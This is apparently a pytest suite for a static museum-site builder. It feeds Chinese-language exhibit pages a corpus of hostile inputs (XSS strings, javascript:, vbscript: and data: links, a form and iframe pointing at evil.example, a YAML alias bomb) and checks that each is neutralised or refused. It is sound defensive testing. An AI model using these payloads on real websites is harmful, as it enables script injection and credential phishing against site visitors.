"""A corpus of hostile exhibits. Each one either publishes safe HTML (no script, event handler, dangerous
URL or foreign element) or is refused with a clear error; harmless formatting keeps working."""

from __future__ import annotations

import json
import re

import pytest

from hall.engine.build import build
from tests.conftest import SmallHall, photo
from tests.hostile import content_of, unsafe

PERSON = """\
---
name: {name}
region: 浙江省/嘉兴市/嘉善县
trade: 制造业
summary: {summary}
sources:
  - title: 测试来源
---

{body}
"""

# slug: (name, summary, body). Names and summaries are YAML double-quoted strings.
INJECTIONS = {
    "raw-script": ("张一", "这是一句简介", "故事<script>alert(1)</script>结束"),
    "img-onerror": ("张二", "这是一句简介", '<img src="x.jpg" onerror="alert(1)" alt="x">'),
    "attr-list-onclick": ("张三", "这是一句简介", '一段话\n{: onclick="alert(1)" }'),
    "attr-list-style": ("张四", "这是一句简介", '一段话\n{: style="position:fixed;inset:0" }'),
    "markdown-js-link": ("张五", "这是一句简介", "[点我](javascript:alert(1))"),
    "mixed-case-js-link": ("张六", "这是一句简介", "[点我](JaVaScRiPt:alert(1))"),
    "entity-js-link": ("张七", "这是一句简介", '<a href="&#106;avascript:alert(1)">点我</a>'),
    "tab-js-link": ("张八", "这是一句简介", '<a href="java\tscript:alert(1)">点我</a>'),
    "vbscript-link": ("张九", "这是一句简介", "[点我](vbscript:msgbox(1))"),
    "data-link": (
        "李一",
        "这是一句简介",
        "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ),
    "data-image": (
        "李二",
        "这是一句简介",
        "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ),
    "iframe": ("李三", "这是一句简介", '<iframe src="https://evil.example/"></iframe>'),
    "svg-onload": ("李四", "这是一句简介", '<svg onload="alert(1)"><circle r="1"/></svg>'),
    "object-embed": ("李五", "这是一句简介", '<object data="x.swf"></object><embed src="x.swf">'),
    "style-tag": ("李六", "这是一句简介", "<style>body{display:none}</style>正文"),
    "form": (
        "李七",
        "这是一句简介",
        '<form action="https://evil.example/"><input name="p"><button>提交</button></form>',
    ),
    "meta-refresh": (
        "李八",
        "这是一句简介",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ),
    "base-tag": ("李九", "这是一句简介", '<base href="https://evil.example/">'),
    "link-tag": (
        "王一",
        "这是一句简介",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ),
    "md-in-html-handler": (
        "王二",
        "这是一句简介",
        '<div markdown="1" onmouseover="alert(1)">**粗体**</div>',
    ),
    "escaped-html-heading": (
        "王三",
        "这是一句简介",
        "## &lt;img src=x onerror=alert(1)&gt;\n\n正文",
    ),
    "raw-html-heading": ("王四", "这是一句简介", "## <img src=x onerror=alert(1)> 标题\n\n正文"),
    "clobber-config": ("王五", "这是一句简介", '<p id="__config">x</p>'),
    "unclosed-comment": ("王六", "这是一句简介", "<!-- <script>alert(1)</script>"),
    "close-article": ("王七", "这是一句简介", "</article><script>alert(1)</script>"),
    "script-in-name": ("</script><b>甲", "这是一句简介", "正文"),
    "handler-in-name": ("<b onclick=x>乙</b>", "这是一句简介", "正文"),
    "script-in-summary": ("赵二", "</script><img src=x onerror=alert(1)>", "正文"),
    "template-syntax": ("赵三", "{{ 7*7 }} {% raw %}", "{{ config }} {% include 'x' %}"),
    "noscript": (
        "赵四",
        "这是一句简介",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),
}

HARMLESS = """\
**加粗**、*强调*、[外部链接](https://example.org/)。

| 年份 | 荣誉 |
| --- | --- |
| 2020 | 全国劳动模范 |

!!! note "小知识"
    鲜切花要在清晨采收。

<div class="grid cards" markdown>

- 卡片一

</div>
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    hall = SmallHall(tmp_path_factory.mktemp("hostile"))
    hall.config.write_text(
        hall.config.read_text(encoding="utf-8").replace(
            "markdown_extensions: [attr_list, md_in_html]",
            "markdown_extensions: [attr_list, md_in_html, admonition, tables, toc]",
        ),
        encoding="utf-8",
    )
    for slug, (name, summary, body) in INJECTIONS.items():
        hall.add(
            f"people/{slug}.md",
            PERSON.format(
                name=json.dumps(name, ensure_ascii=False),
                summary=json.dumps(summary, ensure_ascii=False),
                body=body,
            ),
        )
    hall.add(
        "people/harmless.md", PERSON.format(name='"钱一"', summary='"这是一句简介"', body=HARMLESS)
    )
    hall.add(
        "artifacts/hostile-image/index.md",
        """\
        ---
        title: 竹编果盘
        category: 竹编
        images:
          - src: plate.jpg
            alt: '"><script>alert(1)</script>'
            caption: '<img src=x onerror=alert(1)>'
        summary: 图片说明里的代码。
        sources:
          - title: 测试来源
        ---

        正文
        """,
    )
    photo(hall.exhibits / "artifacts" / "hostile-image" / "plate.jpg")
    return build(hall.config)


def page(site, url: str) -> str:
    return (site / url / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("slug", [*INJECTIONS, "harmless"])
def test_injection_is_neutralised(site, slug):
    assert unsafe(page(site, f"people/{slug}"), reference=page(site, "people/chai-jinfu")) == []


def test_html_in_image_alt_and_caption_is_text(site):
    html = page(site, "artifacts/hostile-image")
    assert unsafe(html, reference=page(site, "people/chai-jinfu")) == []
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_escaped_heading_stays_text_in_the_table_of_contents(site):
    html = page(site, "people/escaped-html-heading")
    assert (
        html.count("&lt;img src=x onerror=alert(1)&gt;") >= 2
    )  # the heading and its entry in the contents


def test_names_and_template_syntax_are_shown_as_written(site):
    assert "&lt;/script&gt;&lt;b&gt;甲" in page(site, "people/script-in-name")
    assert "{{ config }}" in content_of(page(site, "people/template-syntax"))


def test_harmless_formatting_survives(site):
    html = content_of(page(site, "people/harmless"))
    assert "<strong>加粗</strong>" in html and "<em>强调</em>" in html
    assert '<a href="https://example.org/">外部链接</a>' in html
    assert "<table>" in html and "<td>全国劳动模范</td>" in html
    assert (
        '<div class="admonition note">' in html and '<p class="admonition-title">小知识</p>' in html
    )
    assert '<div class="grid cards">' in html


def test_search_index_and_open_data_carry_no_markup_that_runs(site):
    calls = [p.read_text(encoding="utf-8") for p in (site / "search").rglob("*.js")]
    # every index file is one call with a JSON argument: data a curator wrote cannot become code
    assert calls and all(re.fullmatch(r"hallSearch\.[a-z]\(\d+,(.*)\);\n", c, re.S) for c in calls)
    assert all(
        json.loads(re.fullmatch(r"hallSearch\.[a-z]\(\d+,(.*)\);\n", c, re.S).group(1)) is not None
        for c in calls
    )
    assert not any("</" in c for c in calls)  # and cannot end a script element if inlined
    data = json.loads((site / "data" / "exhibits.json").read_text(encoding="utf-8"))
    names = {e["name"] for e in data["exhibits"]}
    assert "</script><b>甲" in names  # kept as data: JSON is not HTML, and is served as JSON


ALIAS_BOMB = (
    '---\nname: 钱二\na: &a ["哈","哈","哈","哈","哈","哈","哈","哈","哈"]\n'
    + "".join(f"{k}: &{k} [{','.join(['*' + p] * 9)}]\n" for p, k in zip("abcdefgh", "bcdefghi"))
    + "---\n正文\n"
)


@pytest.mark.parametrize(
    "raw, code",
    [
        ("---\nname: 钱三\nsummary: 这是一句简介\n---\n正文".encode("gbk"), "E001"),
        (ALIAS_BOMB.encode(), "E006"),
        (("---\nname: 钱四\nx: " + "[" * 5000 + "]" * 5000 + "\n---\n").encode(), "E007"),
        (
            (
                "---\nname: 钱五\nx:\n"
                + "".join("  " * i + f"k{i}:\n" for i in range(1, 12))
                + "---\n"
            ).encode(),
            "E007",
        ),
        (("---\nname: 钱六\n---\n" + "长" * 400_000).encode(), "E008"),
        ("---\nname: 钱七\nname: 钱八\n---\n".encode(), "E004"),
        ("---\nname: 钱九\x1b\n---\n".encode(), "E003"),
    ],
    ids=[
        "gbk",
        "alias-bomb",
        "deep-flow",
        "deep-block",
        "huge",
        "duplicate-key",
        "control-character",
    ],
)
def test_broken_front_matter_is_refused_with_its_code(small_hall, raw, code):
    (small_hall.exhibits / "people" / "qian.md").write_bytes(raw)
    problems = [p for p in small_hall.load().report.problems if p.path.endswith("qian.md")]
    assert code in {p.code for p in problems}, [p.format() for p in problems]


def test_a_bom_is_read_correctly(small_hall):
    text = (small_hall.exhibits / "people" / "chai-jinfu.md").read_text(encoding="utf-8")
    (small_hall.exhibits / "people" / "chai-jinfu.md").write_bytes(b"\xef\xbb\xbf" + text.encode())
    hall = small_hall.load()
    assert hall.report.problems == [] and "柴金甫" in [e.title for e in hall.of_kind("people")]
